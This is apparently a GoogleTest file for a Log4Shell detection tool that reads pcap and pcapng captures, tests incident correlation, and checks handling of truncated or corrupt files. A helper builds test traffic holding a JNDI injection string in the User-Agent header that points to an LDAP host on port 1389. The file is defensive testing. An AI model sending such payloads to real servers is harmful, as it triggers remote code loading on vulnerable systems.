#include "pcap/capture.h"

#include <gtest/gtest.h>
#include <pcap/pcap.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>

#include "hunt/hunt_writer.h"
#include "pcap/report.h"
#include "pcap/test_frames.h"

namespace l4s::pcap {
namespace {

using namespace testing;  // NOLINT
namespace fs = std::filesystem;

fs::path scratch(const std::string& name) {
  fs::path dir = fs::path(L4S_TEST_TMP) / "pcap_capture_test";
  fs::create_directories(dir);
  return dir / name;
}

// Writes frames with libpcap itself (pcap_open_dead + pcap_dump).
std::string write_pcap(const std::string& name, int dlt, const std::vector<std::string>& frames, bool nano = false) {
  std::string path = scratch(name).string();
  pcap_t* dead = pcap_open_dead_with_tstamp_precision(dlt, 65535, nano ? PCAP_TSTAMP_PRECISION_NANO
                                                                       : PCAP_TSTAMP_PRECISION_MICRO);
  pcap_dumper_t* dumper = pcap_dump_open(dead, path.c_str());
  EXPECT_NE(dumper, nullptr) << pcap_geterr(dead);
  for (size_t i = 0; i < frames.size(); ++i) {
    pcap_pkthdr h{};
    h.ts.tv_sec = 1639497829 + static_cast<long>(i);
    h.ts.tv_usec = nano ? 123456789 : 123456;
    h.caplen = h.len = static_cast<uint32_t>(frames[i].size());
    pcap_dump(reinterpret_cast<u_char*>(dumper), &h, reinterpret_cast<const u_char*>(frames[i].data()));
  }
  pcap_dump_close(dumper);
  pcap_close(dead);
  return path;
}

std::string attempt(std::string_view src, std::string_view dst) {
  return ipv4(src, dst, kProtoTcp,
              tcp(40000, 80, 1, kTcpAck, "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://198.51.100.9:1389/a}\r\n\r\n"));
}

TEST(SniffCapture, MagicNumbers) {
  EXPECT_EQ(sniff_capture(std::string("\xd4\xc3\xb2\xa1", 4)), CaptureFormat::kPcap);
  EXPECT_EQ(sniff_capture(std::string("\xa1\xb2\xc3\xd4", 4)), CaptureFormat::kPcap);
  EXPECT_EQ(sniff_capture(std::string("\x4d\x3c\xb2\xa1", 4)), CaptureFormat::kPcapNanosecond);
  EXPECT_EQ(sniff_capture(std::string("\xa1\xb2\x3c\x4d", 4)), CaptureFormat::kPcapNanosecond);
  EXPECT_EQ(sniff_capture(std::string("\x0a\x0d\x0d\x0a", 4)), CaptureFormat::kPcapng);
  EXPECT_EQ(sniff_capture("PK\x03\x04"), CaptureFormat::kNone);
  EXPECT_EQ(sniff_capture("\xd4\xc3"), CaptureFormat::kNone);
  EXPECT_EQ(sniff_capture_file(scratch("does-not-exist").string()), CaptureFormat::kNone);
}

TEST(HuntCapture, EveryLinkTypeThroughLibpcap) {
  std::string ip = attempt("203.0.113.5", "10.0.0.10");
  std::string sll(14, '\0');
  put16(&sll, 0x0800);
  std::string sll2;
  put16(&sll2, 0x0800);
  sll2.append(18, '\0');
  struct Case {
    std::string name;
    int dlt;
    std::string frame;
    std::string link;
  } cases[] = {
      {"eth.pcap", DLT_EN10MB, ether(ip), "ethernet"},
      {"vlan.pcap", DLT_EN10MB, ether(ip, 0x0800, 2), "ethernet"},
      {"sll.pcap", DLT_LINUX_SLL, sll + ip, "linux-sll"},
      {"sll2.pcap", DLT_LINUX_SLL2, sll2 + ip, "linux-sll2"},
      {"raw.pcap", DLT_RAW, ip, "raw"},
      {"null.pcap", DLT_NULL, std::string("\x02\0\0\0", 4) + ip, "null"},
      {"loop.pcap", DLT_LOOP, std::string("\0\0\0\x02", 4) + ip, "loop"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    std::string path = write_pcap(c.name, c.dlt, {c.frame});
    EXPECT_EQ(sniff_capture_file(path), CaptureFormat::kPcap);
    CaptureResult r = hunt_capture(path);
    EXPECT_TRUE(r.errors.empty()) << r.errors.front();
    EXPECT_EQ(r.link_type, c.link);
    ASSERT_EQ(r.detections.size(), 1u);
    EXPECT_EQ(r.detections[0].timestamp, "2021-12-14T16:03:49.123456Z");
    EXPECT_EQ(r.detections[0].jndi.at(0).host, "198.51.100.9");
  }
}

TEST(HuntCapture, NanosecondFile) {
  std::string path = write_pcap("nano.pcap", DLT_EN10MB, {ether(attempt("203.0.113.5", "10.0.0.10"))}, true);
  EXPECT_EQ(sniff_capture_file(path), CaptureFormat::kPcapNanosecond);
  CaptureResult r = hunt_capture(path);
  ASSERT_EQ(r.detections.size(), 1u);
  EXPECT_EQ(r.detections[0].timestamp, "2021-12-14T16:03:49.123457Z");
}

void block(std::string* out, uint32_t type, const std::string& body) {
  auto le32 = [&](uint32_t v) {
    for (int i = 0; i < 4; ++i) out->push_back(static_cast<char>(v >> (8 * i)));
  };
  std::string padded = body;
  while (padded.size() % 4) padded.push_back('\0');
  le32(type);
  le32(static_cast<uint32_t>(12 + padded.size()));
  *out += padded;
  le32(static_cast<uint32_t>(12 + padded.size()));
}

std::string le32(uint32_t v) {
  std::string s;
  for (int i = 0; i < 4; ++i) s.push_back(static_cast<char>(v >> (8 * i)));
  return s;
}

// pcapng written by hand (libpcap reads it but cannot write it): SHB, IDB, EPBs.
std::string pcapng_file(const std::vector<std::string>& frames) {
  std::string f;
  block(&f, 0x0a0d0d0a, le32(0x1a2b3c4d) + std::string("\x01\x00\x00\x00", 4) + std::string(8, '\xff'));
  block(&f, 1, std::string("\x01\x00\x00\x00", 4) + le32(65535));  // Ethernet, snaplen
  uint64_t ts = 1639497829123456ULL;  // microseconds (default if_tsresol)
  for (const std::string& frame : frames) {
    block(&f, 6, le32(0) + le32(static_cast<uint32_t>(ts >> 32)) + le32(static_cast<uint32_t>(ts)) +
                     le32(static_cast<uint32_t>(frame.size())) + le32(static_cast<uint32_t>(frame.size())) + frame);
    ts += 1000;
  }
  return f;
}

TEST(HuntCapture, PcapngAndCorrelationAcrossFrames) {
  std::string out = ether(ipv4("10.0.0.10", "198.51.100.9", kProtoTcp, tcp(43000, 1389, 7, kTcpSyn, "")));
  std::string path = scratch("two.pcapng").string();
  std::ofstream(path, std::ios::binary) << pcapng_file({ether(attempt("203.0.113.5", "10.0.0.10")), out});
  EXPECT_EQ(sniff_capture_file(path), CaptureFormat::kPcapng);
  CaptureResult r = hunt_capture(path);
  EXPECT_TRUE(r.errors.empty()) << r.errors.front();
  EXPECT_EQ(r.stats.frames, 2u);
  ASSERT_EQ(r.detections.size(), 1u);
  ASSERT_EQ(r.incidents.size(), 1u);
  EXPECT_EQ(r.incidents[0].detection, 0u);
  EXPECT_EQ(r.events[r.incidents[0].event].flow.dst_port, 1389);
}

// An incident quotes its attempt (attacker, frame, field); handing the
// detections over must not empty what it quotes.
TEST(HuntCapture, IncidentsInTheHuntReportQuoteTheirAttempt) {
  std::string out = ether(ipv4("10.0.0.10", "198.51.100.9", kProtoTcp, tcp(43000, 1389, 7, kTcpSyn, "")));
  std::string path = scratch("incident.pcapng").string();
  std::ofstream(path, std::ios::binary) << pcapng_file({ether(attempt("203.0.113.5", "10.0.0.10")), out});
  hunt::HuntReport rep;
  add_to_hunt_report(hunt_capture(path), 1, &rep);
  ASSERT_EQ(rep.network_events.size(), 1u);
  nlohmann::json incident = nlohmann::json::parse(rep.network_events[0].json);
  EXPECT_EQ(incident["attacker_ip"], "203.0.113.5");
  EXPECT_EQ(incident["attempt"]["field"], "header");
  EXPECT_EQ(incident["attempt"]["frame"], 1);
}

TEST(HuntCapture, ResultsInTheHuntReportSinks) {
  std::string out = ether(ipv4("10.0.0.10", "198.51.100.9", kProtoTcp, tcp(43000, 1389, 7, kTcpSyn, "")));
  std::string path = scratch("report.pcapng").string();
  std::ofstream(path, std::ios::binary) << pcapng_file({ether(attempt("203.0.113.5", "10.0.0.10")), out});
  hunt::HuntReport rep;
  add_to_hunt_report(hunt_capture(path), 1234, &rep);
  EXPECT_EQ(rep.stats.files, 1u);
  EXPECT_EQ(rep.stats.bytes_read, 1234u);
  ASSERT_EQ(rep.detections.size(), 1u);
  ASSERT_TRUE(rep.detections[0].network.has_value());
  EXPECT_EQ(rep.detections[0].network->header, "User-Agent");
  ASSERT_EQ(rep.network_events.size(), 1u);
  EXPECT_EQ(rep.network_events[0].type, "incident");

  std::ostringstream json;
  hunt::write_hunt(rep, hunt::HuntFormat::kJson, json);
  nlohmann::json j = nlohmann::json::parse(json.str());
  EXPECT_EQ(j["detections"][0]["network"]["src_ip"], "203.0.113.5");
  EXPECT_EQ(j["detections"][0]["network"]["dst_port"], 80);
  EXPECT_EQ(j["detections"][0]["network"]["field"], "header");
  EXPECT_EQ(j["detections"][0]["network"]["http"]["method"], "GET");
  EXPECT_EQ(j["detections"][0]["line"], 1) << "the frame number";
  EXPECT_EQ(j["network_events"][0]["type"], "incident");
  EXPECT_EQ(j["network_events"][0]["evidence"]["kind"], "tcp_connect");

  std::ostringstream text;
  hunt::write_hunt(rep, hunt::HuntFormat::kText, text);
  EXPECT_NE(text.str().find(" frame 1 203.0.113.5:40000 -> 10.0.0.10:80 header User-Agent: "), std::string::npos)
      << text.str();
  EXPECT_NE(text.str().find(": INCIDENT: this server (10.0.0.10) evaluated the payload"), std::string::npos)
      << text.str();
}

TEST(HuntCapture, TruncatedFileKeepsTheFramesBeforeTheCut) {
  std::vector<std::string> frames;
  for (int i = 0; i < 5; ++i) frames.push_back(ether(attempt("203.0.113." + std::to_string(i + 1), "10.0.0.10")));
  std::string full = write_pcap("five.pcap", DLT_EN10MB, frames);
  std::ifstream in(full, std::ios::binary);
  std::string bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  size_t record = 16 + frames[0].size();
  std::string cut = scratch("five-cut.pcap").string();
  std::ofstream(cut, std::ios::binary) << bytes.substr(0, 24 + 3 * record + 20);  // inside the 4th record
  CaptureResult r = hunt_capture(cut);
  ASSERT_EQ(r.errors.size(), 1u);
  EXPECT_NE(r.errors[0].find("truncated"), std::string::npos) << r.errors[0];
  EXPECT_EQ(r.detections.size(), 3u);
  // The pcapng variant: a block cut short.
  std::string ng = pcapng_file(frames);
  std::string ngcut = scratch("five-cut.pcapng").string();
  std::ofstream(ngcut, std::ios::binary) << ng.substr(0, ng.size() - 30);
  CaptureResult r2 = hunt_capture(ngcut);
  ASSERT_EQ(r2.errors.size(), 1u);
  EXPECT_EQ(r2.detections.size(), 4u);
}

TEST(HuntCapture, CorruptRecordHeaderIsSkippedAndTheRestRead) {
  std::vector<std::string> frames;
  for (int i = 0; i < 5; ++i) frames.push_back(ether(attempt("203.0.113." + std::to_string(i + 1), "10.0.0.10")));
  std::string full = write_pcap("five-again.pcap", DLT_EN10MB, frames);
  std::ifstream in(full, std::ios::binary);
  std::string bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  size_t record = 16 + frames[0].size();
  std::string bad = bytes;
  bad[24 + 2 * record + 8 + 3] = '\x7f';  // the third record claims a 2 GB caplen
  std::string path = scratch("five-corrupt.pcap").string();
  std::ofstream(path, std::ios::binary) << bad;
  CaptureResult r = hunt_capture(path);
  ASSERT_EQ(r.errors.size(), 1u);
  EXPECT_NE(r.errors[0].find(std::to_string(record) + " byte(s) from offset " + std::to_string(24 + 2 * record)),
            std::string::npos)
      << r.errors[0];
  EXPECT_EQ(r.stats.frames, 4u);
  ASSERT_EQ(r.detections.size(), 4u);
  EXPECT_EQ(r.detections[2].network->src_ip, "203.0.113.4");
  // Garbage in the middle instead of a header: found again after it.
  std::string junk = bytes.substr(0, 24 + record) + std::string(999, '\x5a') + bytes.substr(24 + record);
  std::string junk_path = scratch("five-junk.pcap").string();
  std::ofstream(junk_path, std::ios::binary) << junk;
  CaptureResult j = hunt_capture(junk_path);
  ASSERT_EQ(j.errors.size(), 1u);
  EXPECT_EQ(j.detections.size(), 5u);
}

TEST(HuntCapture, CorruptPcapngBlockIsSkippedAndTheRestRead) {
  std::vector<std::string> frames;
  for (int i = 0; i < 5; ++i) frames.push_back(ether(attempt("203.0.113." + std::to_string(i + 1), "10.0.0.10")));
  std::string ng = pcapng_file(frames);
  // SHB (28 bytes) and IDB (20 bytes), then EPBs of equal size; the third one's length is garbage.
  size_t epb = (ng.size() - 28 - 20) / 5;
  std::string bad = ng;
  size_t third = 28 + 20 + 2 * epb;
  bad[third + 4] = '\x13';
  bad[third + 7] = '\x40';
  std::string path = scratch("five-corrupt.pcapng").string();
  std::ofstream(path, std::ios::binary) << bad;
  CaptureResult r = hunt_capture(path);
  ASSERT_EQ(r.errors.size(), 1u);
  EXPECT_NE(r.errors[0].find(std::to_string(epb) + " byte(s) from offset " + std::to_string(third)), std::string::npos)
      << r.errors[0];
  ASSERT_EQ(r.detections.size(), 4u);
  EXPECT_EQ(r.detections[2].network->src_ip, "203.0.113.4");
  EXPECT_EQ(r.detections[2].timestamp, "2021-12-14T16:03:49.126456Z") << "the IDB's resolution, from the start";
}

TEST(HuntCapture, UnreadableAndUnsupported) {
  CaptureResult missing = hunt_capture(scratch("missing.pcap").string());
  ASSERT_EQ(missing.errors.size(), 1u);
  std::string text = scratch("text.pcap").string();
  std::ofstream(text) << "not a capture at all\n";
  EXPECT_EQ(hunt_capture(text).errors.size(), 1u);
  std::string wifi = write_pcap("wifi.pcap", DLT_IEEE802_11, {std::string(40, '\0')});
  CaptureResult r = hunt_capture(wifi);
  ASSERT_EQ(r.errors.size(), 1u);
  EXPECT_NE(r.errors[0].find("unsupported link type"), std::string::npos) << r.errors[0];
}

}  // namespace
}  // namespace l4s::pcap
